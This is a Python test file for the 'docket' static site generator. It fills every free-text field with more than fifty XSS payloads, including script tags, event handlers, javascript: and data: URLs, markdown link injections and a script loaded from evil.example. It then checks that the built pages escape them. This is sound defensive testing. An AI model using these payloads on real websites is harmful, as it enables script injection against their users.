"""Hostile text in every free-text field, through a full `docket build` (docs/spec.md §4, §5).

A site is generated where every free-text field of every entity type (and the site title)
carries hostile payloads, built with the docket binary, and every page is parsed as a
browser would (html5lib). No page may hold a script, an event-handler or style attribute,
a URL with a scheme outside http/https/mailto, or an element that loads or submits
(iframe, object, embed, form, base, meta refresh). And each payload's text must appear on
some page, so the test proves it was rendered escaped rather than dropped.
"""
from __future__ import annotations

import json
import re
import subprocess
from pathlib import Path

import html5lib
import pytest

from conftest import describe_nu, nu_errors, run_docket_check

NOW = "2026-11-22"

# At least 40 payloads. Each goes, whole, into plain-text fields (where it must show as
# text) and into the markdown fields (bio, about, proposal body).
PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "\x01javascript:alert(1)",
    "java\x0bscript:alert(1)",
    " \x0e javascript:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;&#x61;vascript&#x3A;alert(1)",
    "javascript&colon;alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "\" onmouseover=\"alert(1)",
    "' onmouseover='alert(1)",
    # A quote followed by a combining mark is one character: an escaper that compares whole
    # characters (swift-mustache's did) lets the quote through and the attribute ends.
    "\"\u0301 onmouseover=alert(1) x=\"\u0301",
    "'\u0301 onfocus=alert(1) autofocus x='\u0301",
    "'><script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<style>body{display:none}</style>",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "{{layout.siteTitle}}",
    "{{{bioHTML}}}",
    "{{#layout}}x{{/layout}} {{>layout}} {{! comment}}",
    "<!-- unterminated comment",
    "<![CDATA[<script>alert(1)</script>]]>",
    "[click](javascript:alert(1))",
    "[click](JAVASCRIPT:alert(1) \"t\")",
    "[click](https://example.com \"x\\\" onmouseover=\\\"alert(1)\")",
    "![img](javascript:alert(1))",
    "![img](x\" onerror=\"alert(1))",
    "[x](<javascript:alert(1)>)",
    "<javascript:alert(1)>",
    "<a href=\"javascript:alert(1)\">link</a>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<object data=\"data:text/html,x\"></object>",
    "<embed src=\"javascript:alert(1)\">",
    "<form action=\"javascript:alert(1)\"><button>go</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<base href=\"javascript:alert(1)//\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<video poster=javascript:alert(1)>",
    "<img srcset=\"javascript:alert(1) 1x\">",
    "<details open ontoggle=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<<script>script>alert(1)<</script>/script>",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\u202eevil\u202c gnp.exe and \u2067rtl\u2069 \u200f mark",
    "\u202dLTR override\u202c \u2066isolate",
]

# Fields whose text is plain: it must show on some page as it was written (the site's
# markup may split it between elements; white space is compared collapsed).
REFUSED_IN_MARKDOWN = re.compile(r"\]\(\s*<?(?!https?:)|^<javascript:")

SITE_TITLE_PAYLOAD = "Docket \"><script>alert(1)</script> {{site}} \u202etitle"


def _short(text: str, limit: int) -> str:
    return text if len(text) <= limit else text[:limit]


def generate(root: Path) -> list[str]:
    """Writes docket.yml and content/ under root; returns the plain-text values that must
    be visible on some page."""
    visible: list[str] = []
    folders = {name: root / "content" / name for name in ("requests", "experts", "firms", "proposals")}
    for folder in folders.values():
        folder.mkdir(parents=True)
    (root / "content" / "media").mkdir()
    # JSON strings are YAML double-quoted strings too.
    (root / "docket.yml").write_text(
        f"title: {json.dumps(SITE_TITLE_PAYLOAD, ensure_ascii=False)}\n"
        "language: en\npage_size: 20\nreview_link_domains:\n  - example.com\n",
        encoding="utf-8")
    visible.append(SITE_TITLE_PAYLOAD)

    def write(kind: str, slug: str, document: dict) -> None:
        (folders[kind] / f"{slug}.json").write_text(json.dumps(document, indent=1), encoding="utf-8")

    for i, p in enumerate(PAYLOADS):
        n = f"{i:02d}"
        request = {
            "title": f"Request {n}: {p}",
            "description": f"Description {n} of a request that carries hostile text: {p} (end of text).",
            "budget": "100-1000",
            "country": "anywhere",
            "name": _short(f"N{n} {p}", 30),
            "email": f"customer{n}@example.com",
            "created": f"2026-10-{1 + i % 28:02d}T10:{i % 60:02d}:00Z",
            "responses": [f"expert-{n}"],
        }
        # A link to another scheme is an error (docs/spec.md §4) and the site would not build: in
        # markdown those payloads go in a code span, shown literally (a warning).
        m = f"`{p}`" if REFUSED_IN_MARKDOWN.search(p) else p
        markdown = (f"# Heading {n} {m}\n\nParagraph {n} with **bold {m}** and *italic {m}*, "
                    f"and a [safe link](https://example.com/{n} \"title {n}\").\n\n"
                    f"- item {m}\n- second item\n\n{m}\n")
        expert = {
            "name": _short(f"E{n} {p}", 30),
            "email": f"expert{n}@example.com",
            "country": "US",
            "firm": f"firm-{n}",
            "certifications": [{"name": _short(f"Cert {n} {p}", 100), "level": "professional"}],
            "hourly_rate": 120,
            "bio": f"Biography {n} long enough to pass the minimum length.\n\n" + markdown,
            "skills": [_short(f"S{n} {p}", 40), "Terraform"],
            "links": [
                {"title": _short(f"Case {n} {p}", 100),
                 "url": f"https://example.com/case/{n}?q=%22%3E%3Cscript%3E&x='onmouseover='a"},
            ],
        }
        firm = {
            "name": _short(f"Firm {n} {p}", 100),
            "country": "US",
            "about": markdown,
            "reviews": [{
                "rating": 1 + i % 5,
                "text": f"Review {n}: {p} (end of review).",
                "author": _short(f"A{n} {p}", 30),
                "date": "2026-10-20",
                "proposal": f"proposal-{n}",
                "would_work_again": "yes",
            }],
        }
        proposal = {
            "request": f"request-{n}",
            "expert": f"expert-{n}",
            "title": f"Proposal {n}: {p}",
            "status": "accepted",
            "created": "2026-10-02",
            "total": 1000,
            "body": f"Proposal body {n}, long enough for the minimum length.\n\n" + markdown,
            "milestones": [{"title": _short(f"Milestone {n} {p}", 140), "amount": 600, "due": "2026-10-10"}],
            "payment_requests": [{
                "amount": 600,
                "description": f"Payment {n}: {p} (end).",
                "requested": "2026-10-10",
                "status": "accepted",
                "decided": "2026-10-11",
                "final": True,
            }],
            "permission_requests": [
                {"policy": "ViewOnlyAccess", "description": f"Permission {n}: {p} (end).", "status": "accepted"},
            ],
        }
        write("requests", f"request-{n}", request)
        write("experts", f"expert-{n}", expert)
        write("firms", f"firm-{n}", firm)
        write("proposals", f"proposal-{n}", proposal)
        visible += [request["title"], request["description"], request["name"], expert["name"],
                    expert["certifications"][0]["name"], expert["skills"][0], expert["links"][0]["title"],
                    firm["name"], firm["reviews"][0]["text"], firm["reviews"][0]["author"],
                    proposal["title"], proposal["milestones"][0]["title"],
                    proposal["payment_requests"][0]["description"],
                    proposal["permission_requests"][0]["description"]]
    return visible


@pytest.fixture(scope="module")
def hostile_site(docket, tmp_path_factory):
    root = tmp_path_factory.mktemp("xss")
    visible = generate(root)
    validate = subprocess.run([str(docket), "validate", "--now", NOW, "--format", "json"], cwd=root,
                              capture_output=True, text=True, timeout=600, stdin=subprocess.DEVNULL)
    errors = [d for d in json.loads(validate.stdout or "[]") if d.get("severity") == "error"]
    assert not errors, "the hostile content must be buildable, but validate reports:\n" + "\n".join(
        json.dumps(e, ensure_ascii=True) for e in errors[:40])
    build = root / "public"
    result = subprocess.run([str(docket), "build", "--output", str(build), "--now", NOW], cwd=root,
                            capture_output=True, text=True, timeout=600, stdin=subprocess.DEVNULL)
    assert result.returncode == 0, f"docket build failed:\n{result.stdout[-4000:]}{result.stderr[-4000:]}"
    pages = sorted(build.rglob("*.html"))
    assert len(pages) > 4 * len(PAYLOADS)
    parsed = {}
    for page in pages:
        with page.open("rb") as f:
            parsed[str(page.relative_to(build))] = html5lib.parse(f, treebuilder="etree",
                                                                  namespaceHTMLElements=False)
    return visible, parsed, build, root


def _local(name: str) -> str:
    """A tag or attribute name without its `{namespace}`, lower-cased."""
    return name.rsplit("}", 1)[-1].lower()


URL_ATTRIBUTES = {"href", "src", "action", "formaction", "srcset", "poster", "data", "background",
                  "cite", "longdesc", "usemap", "xlink:href", "ping", "manifest", "codebase"}
FORBIDDEN_ELEMENTS = {"script", "iframe", "object", "embed", "form", "base", "frame", "frameset",
                      "applet", "portal"}
ALLOWED_SCHEMES = {"http", "https", "mailto"}
_STRIPPED = re.compile(r"[\x00-\x20]+")
_SCHEME = re.compile(r"^([a-z][a-z0-9+.\-]*):")


def url_scheme(url: str) -> str | None:
    """The scheme a browser would see: leading and trailing C0 controls and spaces removed,
    tabs and newlines removed anywhere, lower-cased. None for a relative URL."""
    cleaned = re.sub(r"[\t\n\r]", "", url.strip("".join(map(chr, range(0x21))))).lower()
    match = _SCHEME.match(cleaned)
    return match.group(1) if match else None


def _urls(attribute: str, value: str) -> list[str]:
    if attribute == "srcset":
        return [candidate.strip().split(" ")[0] for candidate in value.split(",") if candidate.strip()]
    return [value]


def is_data_block(element) -> bool:
    """The JSON-LD block (docs/decisions.md, "Structured data and link previews"): a script
    of type application/ld+json, which browsers never run, and which loads nothing."""
    return (_local(element.tag) == "script" and element.get("type") == "application/ld+json"
            and not any(_local(k) == "src" for k in element.attrib))


def problems(tree) -> list[str]:
    found = []
    for element in tree.iter():
        if not isinstance(element.tag, str):
            continue  # comments
        tag = _local(element.tag)
        if tag in FORBIDDEN_ELEMENTS and not is_data_block(element):
            found.append(f"<{tag}> element")
        if tag == "meta" and element.get("http-equiv", "").strip().lower() == "refresh":
            found.append("<meta http-equiv=refresh>")
        for key, value in element.attrib.items():
            name = _local(key)
            if name.startswith("on"):
                found.append(f"<{tag} {name}={value!r}>")
            if name == "style":
                found.append(f"<{tag} style={value!r}>")
            if name in URL_ATTRIBUTES or key.endswith("}href"):
                for url in _urls(name, value):
                    scheme = url_scheme(url)
                    if scheme is not None and scheme not in ALLOWED_SCHEMES:
                        found.append(f"<{tag} {name}={value!r}>: scheme {scheme}")
    return found


def test_xss_no_page_has_active_content(hostile_site):
    _, parsed, _, _ = hostile_site
    failures = {path: found for path, tree in parsed.items() if (found := problems(tree))}
    assert not failures, "\n".join(f"{path}: {found[:5]}" for path, found in sorted(failures.items())[:20])


# What must match between a field and the page: its characters in order, ignoring white
# space, control characters and U+FFFD (Docket collapses white space in descriptions and
# shows the code points HTML forbids as U+FFFD).
_IGNORED = re.compile(r"[\s\x00-\x1f\x7f-\x9f\ufffd]")


def visible_form(text: str) -> str:
    return _IGNORED.sub("", text)


def page_text(tree) -> str:
    # The JSON-LD block's text is data, not shown: a payload found only there is not "shown".
    return "".join(t for element in tree.iter() if isinstance(element.tag, str)
                   for t in ((None if is_data_block(element) else element.text), element.tail) if t)


def test_xss_every_payload_shows_as_text(hostile_site):
    visible, parsed, _, _ = hostile_site
    # The text of every page, element texts joined with no separator (so a value split
    # between inline elements still matches).
    corpus = "\x00".join(visible_form(page_text(tree)) for tree in parsed.values())
    missing = [value for value in visible if visible_form(value) not in corpus]
    assert not missing, f"{len(missing)} plain-text values do not show on any page, e.g.:\n" + "\n".join(
        repr(v) for v in missing[:15])


def test_xss_site_passes_docket_check(docket, hostile_site):
    """Links, the feed's XML, private fields: `docket check` on the hostile build."""
    _, _, build, root = hostile_site
    result = run_docket_check(docket, build, root)
    assert result.returncode == 0, f"docket check exited {result.returncode}:\n{result.stdout[-4000:]}{result.stderr[-2000:]}"


def test_xss_pages_are_valid_html(hostile_site):
    """The Nu checker finds no error on any page of the hostile build."""
    _, _, build, _ = hostile_site
    errors = nu_errors(build)
    assert not errors, "\n".join(f"{path}:\n{describe_nu(found[:5])}" for path, found in sorted(errors.items())[:10])


def test_xss_checker_catches_active_content():
    """The checks above are not vacuous: each kind of problem is found in a hand-made page."""
    page = ("<!DOCTYPE html><title>x</title><a href=' JaVa\tScript:alert(1)'>a</a>"
            "<img src=x onerror=alert(1) style='color:red'><svg><a xlink:href='data:x'>s</a></svg>"
            "<img srcset='ok.png 1x, vbscript:x 2x'><iframe></iframe><form></form><base href=x>"
            "<meta http-equiv=Refresh content=0><a href='mailto:a@example.com'>m</a><a href='../x.html'>r</a>"
            "<script type='application/ld+json' src='x.js'></script><script type='application/ld+json'>{}</script>")
    found = problems(html5lib.parse(page, treebuilder="etree", namespaceHTMLElements=False))
    text = "\n".join(found)
    for expected in ("scheme javascript", "onerror", "style=", "scheme data", "scheme vbscript",
                     "<iframe>", "<form>", "<base>", "meta http-equiv"):
        assert expected in text, f"{expected!r} not reported in {found}"
    assert not any("mailto" in f or "../x.html" in f for f in found)
    assert found.count("<script> element") == 1, "a JSON-LD block with src is active content; one without is not"
    assert len(PAYLOADS) >= 40
